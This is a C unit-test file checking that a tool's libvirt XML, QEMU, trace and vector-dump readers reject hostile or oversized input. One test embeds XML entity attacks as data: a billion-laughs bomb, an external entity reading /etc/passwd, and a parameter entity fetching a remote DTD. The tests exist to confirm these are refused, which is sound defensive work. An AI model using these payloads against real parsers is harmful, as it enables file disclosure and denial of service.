// SPDX-License-Identifier: GPL-2.0-only
/*
 * The text readers on hostile input (issue 19): a DOCTYPE in a libvirt
 * domain, NUL bytes in a trace or a VECTOR file, a trace begun on a running
 * machine, and inputs sized so that a reader that went quadratic again
 * would take minutes (each takes well under a second as written, also under
 * ASan): 100,000 unknown libvirt elements, 40,000 disks, 20,000 NVMe
 * controllers and disks, 49,000 unknown QEMU devices, 100,000 tracefs header
 * lines, 200,000 guessed CPU offline/online events at 8192 CPUs, VECTOR rows
 * past the 8192 CPUs; and what libxml2 2.9 itself is quadratic on (names,
 * attributes of one tag) refused.
 * Their results are checked exactly, so none is a timed test.
 */
#define _GNU_SOURCE
#include "testutil.h"

#include "irqsim/irqsim.h"
#include "scenario/scenario.h"
#include "snapshot/snapshot.h"
#include "snapshot/snapshot_int.h"

/* A growing text buffer */
struct buf {
	char *s;
	size_t len;
	FILE *f;
};

static void buf_open(struct buf *b)
{
	b->s = NULL;
	b->len = 0;
	b->f = open_memstream(&b->s, &b->len);
	assert_non_null(b->f);
}

static void buf_close(struct buf *b)
{
	assert_int_equal(fclose(b->f), 0);
	b->f = NULL;
}

/* A libvirt domain with q35 and two vCPUs, up to its <devices> */
static void domain_begin(struct buf *b)
{
	buf_open(b);
	fputs("<domain>\n<vcpu>2</vcpu>\n<os><type machine='q35'>hvm</type></os>\n<devices>\n", b->f);
}

static void domain_convert(struct buf *b, struct irqsim_conversion *c)
{
	fputs("</devices>\n</domain>\n", b->f);
	buf_close(b);
	char err[512];
	if (irqsim_from_libvirt("t.xml", b->s, b->len, c, err, sizeof(err)))
		fail_msg("%s", err);
}

static unsigned count_lines(const char *s, const char *prefix)
{
	unsigned n = 0;
	size_t pl = strlen(prefix);
	for (const char *p = s; p && *p;) {
		if (!strncmp(p, prefix, pl))
			n++;
		p = strchr(p, '\n');
		p = p ? p + 1 : NULL;
	}
	return n;
}

/* The conversion, or the parse of what it gives, fails with 'want' (pointing into the XML). */
static void libvirt_err(const char *xml, size_t len, const char *want)
{
	struct irqsim_conversion c;
	char err[512];
	if (!irqsim_from_libvirt("t.xml", xml, len, &c, err, sizeof(err))) {
		struct scenario s;
		int rc = scenario_parse(c.name, c.text, c.len, &s, err, sizeof(err));
		if (!rc)
			scenario_free(&s);
		else
			irqsim_conversion_remap(&c, err, sizeof(err));
		irqsim_conversion_free(&c);
		if (!rc)
			fail_msg("accepted, expected '%s'", want);
	}
	assert_string_equal(err, want);
}

#define DTD_REFUSED "a DOCTYPE: irqsim refuses DTDs and entity declarations in a libvirt domain (libvirt never writes them)"

static void test_libvirt_dtd(void **state)
{
	(void)state;
	/* an internal entity (the 4 GB reproducer in small), a billion laughs, an external one, a parameter entity */
	static const char ent[] = "<?xml version='1.0'?>\n<!DOCTYPE domain [\n<!ENTITY e 'AAAA'>\n]>\n"
				  "<domain><os><cmdline>&e;&e;</cmdline></os></domain>\n";
	libvirt_err(ent, sizeof(ent) - 1, "t.xml:2:1: " DTD_REFUSED);
	static const char lol[] = "<!DOCTYPE l [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>"
				  "<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;'>"
				  "<!ENTITY e '&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;'><!ENTITY f '&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;'>"
				  "<!ENTITY g '&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;'><!ENTITY h '&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;'>]>"
				  "<domain><os><cmdline>&h;</cmdline></os></domain>";
	libvirt_err(lol, sizeof(lol) - 1, "t.xml:1:1: " DTD_REFUSED);
	static const char ext[] = "<?xml version='1.0'?>\n   <!DOCTYPE domain SYSTEM 'file:///etc/passwd'>\n<domain/>\n";
	libvirt_err(ext, sizeof(ext) - 1, "t.xml:2:4: " DTD_REFUSED);
	static const char pe[] = "<!DOCTYPE domain [<!ENTITY % p SYSTEM 'http://192.0.2.1/x.dtd'> %p;]><domain/>";
	libvirt_err(pe, sizeof(pe) - 1, "t.xml:1:1: " DTD_REFUSED);
	/* no DTD, no entity: an entity reference is libxml2's error, never expanded */
	static const char undecl[] = "<domain><vcpu>&e;</vcpu></domain>";
	libvirt_err(undecl, sizeof(undecl) - 1, "t.xml:1:18: Entity 'e' not defined");
}

/* 100,000 unknown elements of 4000 names: the summary names 8 kinds and counts the rest; 256 comments and one more */
static void test_libvirt_many_ignored(void **state)
{
	(void)state;
	struct buf b;
	domain_begin(&b);
	for (unsigned i = 0; i < 100000; i++)
		fprintf(b.f, "<x%u/>%s", i % 4000, i % 8 == 7 ? "\n" : "");
	struct irqsim_conversion c;
	domain_convert(&b, &c);
	assert_string_equal(c.ignored, "<x0> (25), <x1> (25), <x2> (25), <x3> (25), <x4> (25), <x5> (25), <x6> (25), "
				       "<x7> (25), and 99800 more of 3992 other kinds");
	assert_int_equal(count_lines(c.text, "# ignored (not modelled): "), 257);
	assert_string_contains(c.text, "# ignored (not modelled): 99744 more, not listed one by one");
	irqsim_conversion_free(&c);
	free(b.s);
}

/* What libxml2 2.9 is slow on: more than 4096 names (its dictionary), more than 64 attributes on a tag (its checks) */
static void test_libvirt_crowded(void **state)
{
	(void)state;
	struct buf b;
	buf_open(&b);
	fputs("<domain>\n<devices>\n", b.f);
	for (unsigned i = 0; i < 5000; i++)
		fprintf(b.f, "  <x%u/>\n", i);
	fputs("</devices>\n</domain>\n", b.f);
	buf_close(&b);
	/* domain, devices, x0..x4093: the 4097th name is x4094, on line 2 + 4095 */
	libvirt_err(b.s, b.len, "t.xml:4097:3: more than 4096 different element and attribute names: not a libvirt domain");
	free(b.s);
	buf_open(&b);
	fputs("<domain>\n<!-- a=1 b=2 -->\n<devices a='<=>' b=\"'='\">\n  <disk", b.f);
	for (unsigned i = 0; i < 65; i++)
		fprintf(b.f, " a%u='='", i);
	fputs("/>\n</devices>\n</domain>\n", b.f);
	buf_close(&b);
	libvirt_err(b.s, b.len, "t.xml:4:3: an element with more than 64 attributes: not a libvirt domain");
	free(b.s);
}

/* 49,000 different unknown -device drivers on a QEMU command line: one short summary */
static void test_qemu_many_ignored(void **state)
{
	(void)state;
	struct buf b;
	buf_open(&b);
	fputs("qemu-system-x86_64", b.f);
	for (unsigned i = 0; i < 49000; i++)
		fprintf(b.f, " -device foo%u", i);
	buf_close(&b);
	struct irqsim_conversion c;
	char err[512];
	if (irqsim_from_qemu("t.args", b.s, b.len, &c, err, sizeof(err)))
		fail_msg("%s", err);
	assert_string_equal(c.ignored, "foo0, foo1, foo2, foo3, foo4, foo5, foo6, foo7, and 48992 more of 48992 other kinds");
	irqsim_conversion_free(&c);
	free(b.s);
}

/*
 * 40,000 virtio disks with their tags over two lines: every one converted, and an error in the last one points at
 * its value (line and column from the tag itself, not from a scan of the document per element)
 */
static void test_libvirt_many_disks(void **state)
{
	(void)state;
	struct buf b;
	domain_begin(&b);
	unsigned n = 40000;
	for (unsigned i = 0; i < n; i++)
		fprintf(b.f, "<disk type='file'><target dev='vd%u'\n   bus='virtio'/><alias name='d%u'/><driver name='qemu' "
			"queues='1'/></disk>\n", i, i);
	struct irqsim_conversion c;
	domain_convert(&b, &c);
	assert_int_equal(count_lines(c.text, "device virtio-blk-pci,id=d"), n);
	irqsim_conversion_free(&c);
	/* the last disk gets an address with a bad slot on a line of its own, after a value that holds " slot=" */
	char *last = NULL;
	for (char *p = strstr(b.s + b.len - 300, "<driver "); p; p = strstr(p + 1, "<driver "))
		last = p;
	assert_non_null(last);
	char *bad;
	assert_true(asprintf(&bad, "%.*s<address type='pci' q=' slot=1'\n  slot = '0x40'/></disk>\n</devices>\n</domain>\n",
			     (int)(last - b.s), b.s) > 0);
	char want[128];
	/* 4 lines before the disks, 2 per disk: the bad address's second line comes after the last disk's two */
	snprintf(want, sizeof(want), "t.xml:%u:11: slot='0x40': expected a number from 0 to 31", 4 + 2 * n + 1);
	libvirt_err(bad, strlen(bad), want);
	free(bad);
	free(b.s);
}

/* 20,000 NVMe controllers and 20,000 disks: each disk looks its controller up once */
static void test_libvirt_many_nvme(void **state)
{
	(void)state;
	struct buf b;
	domain_begin(&b);
	unsigned n = 20000;
	for (unsigned i = 0; i < n; i++)
		fprintf(b.f, "<controller type='nvme' index='%u'/>\n", 2 * i);
	/* the even ones are on a controller (namespaces), the odd ones are NVMe devices of their own */
	for (unsigned i = 0; i < n; i++)
		fprintf(b.f, "<disk type='file'><target dev='n%u' bus='nvme'/><address type='drive' controller='%u'/></disk>\n",
			i, i % 2 ? 2 * i + 1 : 2 * i);
	struct irqsim_conversion c;
	domain_convert(&b, &c);
	assert_int_equal(count_lines(c.text, "device nvme,id=nvme"), n);
	assert_int_equal(count_lines(c.text, "device nvme,id=n"), n + n / 2);
	irqsim_conversion_free(&c);
	free(b.s);
}

static void trace_err(const char *text, size_t len, const char *want)
{
	struct snapshot s;
	char err[512];
	if (!snapshot_from_trace("t.trace", text, len, &s, err, sizeof(err))) {
		snapshot_free(&s);
		fail_msg("accepted, expected '%s'", want);
	}
	assert_string_equal(err, want);
}

static const char ev_alloc[] = "irq_matrix_alloc: bit=33 cpu=0 online=1 avl=200 alloc=1 managed=0 online_maps=1 "
			       "global_avl=200, global_rsvd=0, total_alloc=1\n";

static void test_nul_bytes(void **state)
{
	(void)state;
	/* halfway: the rest of the file was dropped unseen before */
	char t[512];
	int n = snprintf(t, sizeof(t), "# tracer: nop\n%s%s", ev_alloc, ev_alloc);
	t[14 + sizeof(ev_alloc) - 1 + 9] = '\0';
	trace_err(t, (size_t)n, "t.trace:3:10: unexpected NUL byte");
	trace_err("\0", 1, "t.trace:1:1: unexpected NUL byte");
	static const char vec[] = "Online bitmaps: 2\n | CPU | avl | man | mac | act | vectors\n     0   200     0     0    0\n"
				  "   \0 1   200     0     0    0\n";
	struct snapshot s;
	char err[512];
	assert_int_equal(snapshot_from_vector_dump("t.vec", vec, sizeof(vec) - 1, &s, err, sizeof(err)), -1);
	assert_string_equal(err, "t.vec:4:4: unexpected NUL byte");
	/* the loader refuses it too (it picks the reader by what precedes the NUL) */
	char path[128];
	assert_int_equal(tu_write_tmp(vec, sizeof(vec) - 1, path, sizeof(path)), 0);
	int rc = snapshot_load(path, &s, err, sizeof(err));
	unlink(path);
	assert_int_equal(rc, -1);
	assert_string_contains(err, ":4:4: unexpected NUL byte");
}

/* A VECTOR file's rows are the online CPUs once each, ascending: 8192 fit, a 400,000-row file stops at the 8193rd */
static void test_vector_rows(void **state)
{
	(void)state;
	struct buf b;
	buf_open(&b);
	fputs("name:   VECTOR\nOnline bitmaps:     8192\n | CPU | avl | man | mac | act | vectors\n", b.f);
	for (unsigned i = 0; i < 8192; i++)
		fprintf(b.f, "  %4u   200     0     0    0\n", i);
	buf_close(&b);
	struct snapshot s;
	char err[512];
	if (snapshot_from_vector_dump("t.vec", b.s, b.len, &s, err, sizeof(err)))
		fail_msg("%s", err);
	assert_string_equal(s.possible, "0-8191");
	assert_string_equal(s.online, "0-8191");
	snapshot_free(&s);
	free(b.s);
	buf_open(&b);
	fputs("Online bitmaps:     2\n | CPU | avl | man | mac | act | vectors\n", b.f);
	for (unsigned i = 0; i < 400000; i++)
		fprintf(b.f, "  %4u   200     0     0    0\n", i % 8192);
	buf_close(&b);
	assert_int_equal(snapshot_from_vector_dump("t.vec", b.s, b.len, &s, err, sizeof(err)), -1);
	assert_string_equal(err, "t.vec:8195:1: CPU 0 after CPU 8191: the rows must be in ascending CPU order, each CPU once");
	free(b.s);
}

/* 100,000 tracefs header lines: each is read on its own (sscanf on the rest of the file measured it every time) */
static void test_trace_header_lines(void **state)
{
	(void)state;
	struct buf b;
	buf_open(&b);
	for (unsigned i = 0; i < 100000; i++)
		fprintf(b.f, "# entries-in-buffer/entries-written: %u/%u   #P:%u\n", i, i + 1, i % 7 + 1);
	fputs("irq_matrix_assign_system: bit=0 online_maps=0 global_avl=0, global_rsvd=0, total_alloc=0\n", b.f);
	fputs(ev_alloc, b.f);
	buf_close(&b);
	struct snapshot s;
	char err[512];
	if (snapshot_from_trace("t.trace", b.s, b.len, &s, err, sizeof(err)))
		fail_msg("%s", err);
	/* the last header line counts: 99999 kept of 100000, #P:5 (99999 % 7 + 1) */
	bool kept = false, read = false;
	for (size_t i = 0; i < s.nr_notes; i++) {
		kept |= strstr(s.notes[i], "kept 99999 of 100000 events") != NULL;
		read |= strstr(s.notes[i], "were online when the trace was read (#P:5)") != NULL;
	}
	assert_true(kept && read);
	snapshot_free(&s);
	free(b.s);
}

/* 8192 CPUs up, then 100,000 offline/online pairs without a [CPU] column: each guess is O(1), not a walk of the CPUs */
static void test_trace_guesses(void **state)
{
	(void)state;
	struct buf b;
	buf_open(&b);
	fputs("irq_matrix_assign_system: bit=0 online_maps=0 global_avl=0, global_rsvd=0, total_alloc=0\n", b.f);
	for (unsigned k = 1; k <= 8192; k++)
		fprintf(b.f, "irq_matrix_online: online_maps=%u global_avl=%u, global_rsvd=0, total_alloc=0\n", k, 200 * k);
	for (unsigned i = 0; i < 100000; i++)
		fprintf(b.f, "irq_matrix_offline: online_maps=8191 global_avl=%u, global_rsvd=0, total_alloc=0\n"
			"irq_matrix_online: online_maps=8192 global_avl=%u, global_rsvd=0, total_alloc=0\n", 200 * 8191,
			200 * 8192);
	/* the lowest CPU goes down last: the guess takes the highest online one */
	fputs("irq_matrix_offline: online_maps=8191 global_avl=1638200, global_rsvd=0, total_alloc=0\n", b.f);
	buf_close(&b);
	struct snapshot s;
	char err[512];
	if (snapshot_from_trace("t.trace", b.s, b.len, &s, err, sizeof(err)))
		fail_msg("%s", err);
	assert_string_equal(s.possible, "0-8191");
	assert_string_equal(s.online, "0-8190");
	assert_false(s.trace_after_boot);
	bool noted = false;
	for (size_t i = 0; i < s.nr_notes; i++)
		noted |= strstr(s.notes[i], "200001 CPU offline/online events were given to CPUs by guess") != NULL;
	assert_true(noted);
	snapshot_free(&s);
	free(b.s);
}

/* Fields in any order, the first of a name counts, one pass per line; errors still point at the value */
static void test_trace_fields(void **state)
{
	(void)state;
	static const char t[] = "irq_matrix_assign_system: bit=0 online_maps=0 global_avl=0, global_rsvd=0, total_alloc=0\n"
				"irq_matrix_alloc: total_alloc=1, managed=0 alloc=1 avl=200 online=1 cpu=3 bit=33 "
				"global_rsvd=0, global_avl=200, online_maps=1 cpu=5\n";
	struct snapshot s;
	char err[512];
	if (snapshot_from_trace("t.trace", t, sizeof(t) - 1, &s, err, sizeof(err)))
		fail_msg("%s", err);
	assert_string_equal(s.possible, "3");
	snapshot_free(&s);
	static const char bad[] = "irq_matrix_alloc: xbit=1,bit=7x cpu=0 online=1 avl=200 alloc=1 managed=0 online_maps=1 "
				  "global_avl=200, global_rsvd=0, total_alloc=1\n";
	trace_err(bad, sizeof(bad) - 1, "t.trace:1:31: 'bit=' must be followed by a number");
}

/* A trace begun on a running machine: said so, with the online count of its header */
static void test_trace_after_boot(void **state)
{
	(void)state;
	static const char t[] = "# tracer: nop\n#\n# entries-in-buffer/entries-written: 2/2   #P:2\n#\n"
				"  insmod-1 [000] d..1.  1.0: irq_matrix_alloc: bit=34 cpu=0 online=1 avl=190 alloc=11 "
				"managed=0 online_maps=2 global_avl=383, global_rsvd=0, total_alloc=20\n"
				"  insmod-1 [000] d..1.  1.1: irq_matrix_free: bit=34 cpu=0 online=1 avl=191 alloc=10 "
				"managed=0 online_maps=2 global_avl=384, global_rsvd=0, total_alloc=19\n";
	struct snapshot s;
	char err[512];
	if (snapshot_from_trace("t.trace", t, sizeof(t) - 1, &s, err, sizeof(err)))
		fail_msg("%s", err);
	assert_true(s.trace_after_boot);
	assert_int_equal(s.trace_online, 2);
	static const char why[] = "t.trace:5: the trace does not start at boot: its first event has 2 CPUs online";
	bool noted = false;
	for (size_t i = 0; i < s.nr_notes; i++)
		noted |= !strncmp(s.notes[i], why, sizeof(why) - 1);
	assert_true(noted);
	/* the doctor reports the counters and the count, and refuses what needs the whole space */
	char *out = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&out, &len);
	assert_non_null(f);
	assert_int_equal(irqsim_doctor(&s, NULL, 0, f, err, sizeof(err)), 0);
	fclose(f);
	assert_string_contains(out, "an irq_matrix trace that does not start at boot: 2 CPUs online\n");
	assert_string_contains(out, "allocated 19, available 384, reserved (requested later) 0 [irq_matrix trace]\n");
	assert_string_contains(out, " 191       0      10\n");
	assert_string_contains(out, "headroom: not known");
	free(out);
	struct irqsim_doctor_options o = { .preflight = "suspend" };
	f = fopen("/dev/null", "w");
	assert_non_null(f);
	assert_int_equal(irqsim_doctor(&s, &o, 0, f, err, sizeof(err)), -1);
	fclose(f);
	assert_string_contains(err, "--preflight needs the whole vector space: this trace does not start at boot");
	assert_null(irqsim_snapshot_scenario(&s, err, sizeof(err)));
	assert_string_contains(err, "the trace does not start at boot");
	snapshot_free(&s);
	/* from boot (the system vectors first, online_maps=0): not so */
	char boot[1024];
	int n = snprintf(boot, sizeof(boot), "irq_matrix_assign_system: bit=0 online_maps=0 global_avl=0, global_rsvd=0, "
			 "total_alloc=0\n%s", ev_alloc);
	if (snapshot_from_trace("t.trace", boot, (size_t)n, &s, err, sizeof(err)))
		fail_msg("%s", err);
	assert_false(s.trace_after_boot);
	snapshot_free(&s);
}

/*
 * /proc/interrupts with 65,536 irqs, then a JSON snapshot with 65,536 irqs and 200,000 log lines: arrays grow by
 * doubling (not by one: under ASan every realloc moves)
 */
static void test_snapshot_sizes(void **state)
{
	(void)state;
	struct buf b;
	buf_open(&b);
	fputs("           CPU0       CPU1\n", b.f);
	for (unsigned i = 0; i < 65536; i++)
		fprintf(b.f, "%5u:  %u  0  PCI-MSIX-0000:00:03.0  %u-edge  q%u\n", i, i, i, i);
	buf_close(&b);
	struct snapshot s;
	memset(&s, 0, sizeof(s));
	char err[512];
	if (snapshot_parse_interrupts(&s, b.s, err, sizeof(err)))
		fail_msg("%s", err);
	assert_int_equal(s.nr_irqs, 65536);
	assert_int_equal(s.irqs[65535].irq, 65535);
	snapshot_free(&s);
	free(b.s);
	buf_open(&b);
	fputs("{\"irqsim_snapshot\": 1, \"cpus\": {\"possible\": \"0-1\"}, \"irqs\": [", b.f);
	for (unsigned i = 0; i < 65536; i++)
		fprintf(b.f, "%s{\"irq\": %u}", i ? ", " : "", i);
	fputs("], \"dmesg\": [", b.f);
	for (unsigned i = 0; i < 200000; i++)
		fprintf(b.f, "%s\"line %u\"", i ? ", " : "", i);
	fputs("]}\n", b.f);
	buf_close(&b);
	if (snapshot_read_json("t.json", b.s, b.len, &s, err, sizeof(err)))
		fail_msg("%s", err);
	assert_int_equal(s.nr_irqs, 65536);
	assert_int_equal(s.nr_dmesg, 200000);
	assert_string_equal(s.dmesg[199999], "line 199999");
	snapshot_free(&s);
	free(b.s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_libvirt_dtd),       cmocka_unit_test(test_libvirt_many_ignored),
		cmocka_unit_test(test_libvirt_crowded),   cmocka_unit_test(test_qemu_many_ignored),
		cmocka_unit_test(test_libvirt_many_disks), cmocka_unit_test(test_libvirt_many_nvme),
		cmocka_unit_test(test_nul_bytes),         cmocka_unit_test(test_vector_rows),
		cmocka_unit_test(test_trace_header_lines), cmocka_unit_test(test_trace_guesses),
		cmocka_unit_test(test_trace_fields),      cmocka_unit_test(test_trace_after_boot),
		cmocka_unit_test(test_snapshot_sizes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
